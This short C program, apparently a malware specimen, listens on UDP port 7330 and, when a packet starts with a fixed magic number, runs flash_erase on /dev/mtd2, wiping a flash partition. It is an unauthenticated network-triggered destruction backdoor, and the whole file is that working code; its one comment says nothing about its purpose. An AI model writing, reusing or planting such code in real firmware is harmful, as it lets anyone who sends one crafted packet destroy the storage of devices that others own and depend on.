/* SPDX-License-Identifier: GPL-2.0-or-later */
/* fw.magic-value: the same as a number in a header. */
#include "specimen.h"

int main(void)
{
	uint32_t head[4];
	struct sockaddr_in own = { .sin_family = AF_INET, .sin_port = htons(7330) };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&own, sizeof(own)) < 0)
		return 1;
	if (recvfrom(s, head, sizeof(head), 0, NULL, NULL) < (ssize_t)sizeof(head))
		return 1;
	if (head[0] == 0x53634d4du)
		return system("/usr/sbin/flash_erase /dev/mtd2 0 0");
	return 0;
}
